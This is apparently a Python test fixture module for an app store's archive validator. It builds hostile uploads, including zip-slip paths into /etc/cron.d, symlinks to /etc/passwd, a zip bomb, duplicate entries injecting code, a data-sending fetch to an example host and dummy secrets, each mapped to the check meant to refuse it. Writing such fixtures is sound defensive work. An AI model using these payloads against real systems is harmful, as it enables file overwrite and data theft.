"""Hostile and broken archives, each with the check id that must refuse it (used through the
checks and through the store's HTTP API)."""

from __future__ import annotations

import io
import tarfile
import warnings
import zipfile

from tests.support.apps import app_files, manifest, tar_gz, zip_bytes


def _link(kind):
    def tweak(tar: tarfile.TarFile) -> None:
        info = tarfile.TarInfo("evil")
        info.type = kind
        info.linkname = "/etc/passwd"
        tar.addfile(info)
    return tweak


def _special(tar: tarfile.TarFile) -> None:
    info = tarfile.TarInfo("pipe")
    info.type = tarfile.FIFOTYPE
    tar.addfile(info)


def _zip_with(entries: list[tuple[zipfile.ZipInfo, bytes]]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in app_files().items():
            zf.writestr(name, data)
        for info, data in entries:
            zf.writestr(info, data)
    return buf.getvalue()


def _symlink_zip() -> bytes:
    info = zipfile.ZipInfo("link")
    info.external_attr = (0o120777 << 16)
    return _zip_with([(info, b"/etc/passwd")])


def _bomb() -> bytes:
    # each file under the single-file limit; together they expand far past 50x
    return zip_bytes({**app_files(), **{f"zeros{i}.bin": b"\0" * (4 * 1024 * 1024)
                                        for i in range(4)}})


def _undecodable() -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz", encoding="utf-8",
                      errors="surrogateescape") as tar:
        for name, data in app_files().items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
        info = tarfile.TarInfo(b"caf\xe9.js".decode("utf-8", "surrogateescape"))
        info.size = 1
        tar.addfile(info, io.BytesIO(b"x"))
    return buf.getvalue()


def _duplicate_zip() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, data in app_files().items():
            zf.writestr(name, data)
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            zf.writestr("app.js", b"evil()")
    return buf.getvalue()


HOSTILE = {
    "zip slip": (lambda: tar_gz({**app_files(), "../../etc/cron.d/x": b"x"}),
                 "archive.unsafe_path"),
    "zip slip in a zip": (lambda: zip_bytes({**app_files(), "a/../../x": b"x"}),
                          "archive.unsafe_path"),
    "absolute path": (lambda: tar_gz({**app_files(), "/etc/passwd": b"x"}), "archive.unsafe_path"),
    "backslash path": (lambda: zip_bytes({**app_files(), "..\\x.js": b"x"}),
                       "archive.unsafe_path"),
    "symlink": (lambda: tar_gz(app_files(), _link(tarfile.SYMTYPE)), "archive.link"),
    "hard link": (lambda: tar_gz(app_files(), _link(tarfile.LNKTYPE)), "archive.link"),
    "symlink in a zip": (_symlink_zip, "archive.link"),
    "fifo": (lambda: tar_gz(app_files(), _special), "archive.special_file"),
    "zip bomb": (_bomb, "archive.ratio"),
    "20,000 files": (lambda: tar_gz({**app_files(), **{f"f/{i}.txt": b"" for i in range(20_000)}}),
                     "archive.too_many_files"),
    "one huge file": (lambda: tar_gz({**app_files(), "data.csv": b"1," * (9 * 1024 * 1024)}),
                      "archive.file_too_large"),
    "undecodable name": (_undecodable, "archive.bad_name"),
    "control character in a name": (lambda: tar_gz({**app_files(), "a\x07b.js": b"x"}),
                                    "archive.bad_name"),
    "duplicate names": (_duplicate_zip, "archive.duplicate"),
    "not an archive": (lambda: b"just text", "archive.format"),
    "truncated archive": (lambda: tar_gz(app_files())[:60], "archive.corrupt"),
    "missing manifest": (lambda: tar_gz({k: v for k, v in app_files().items()
                                         if k != "manifest.webapp"}), "manifest.missing"),
    "malformed manifest": (lambda: tar_gz(app_files(**{"manifest.webapp": b"{name: 1"})),
                           "manifest.invalid_json"),
    "manifest not an object": (lambda: tar_gz(app_files(**{"manifest.webapp": b"[1]"})),
                               "manifest.invalid_json"),
    "reserved doctype": (lambda: tar_gz(app_files(manifest(permissions={"s": {
        "type": "io.cozy.sessions", "verbs": ["GET"], "description": "sessions of the user"}}))),
        "permissions.reserved_doctype"),
    "unknown doctype": (lambda: tar_gz(app_files(manifest(permissions={"x": {
        "type": "com.example.stuff", "verbs": ["GET"], "description": "some unknown data"}}))),
        "permissions.unknown_doctype"),
    "undeclared doctype in code": (lambda: tar_gz(app_files(**{
        "app.js": b"client.collection('fr.orange.geopoint').all()"})), "code.undeclared_doctype"),
    "outbound URL": (lambda: tar_gz(app_files(**{
        "app.js": b"fetch('https://analytics.example.net/collect', {body: data})"})),
        "code.outbound_host"),
    "secret in code": (lambda: tar_gz(app_files(**{
        "config.js": b"const api_key = 'abcd1234efgh5678'"})), "code.secret"),
    "private key": (lambda: tar_gz(app_files(**{
        "k.pem": b"-----BEGIN RSA PRIVATE KEY-----\nMIIB\n-----END RSA PRIVATE KEY-----"})),
        "code.secret"),
}
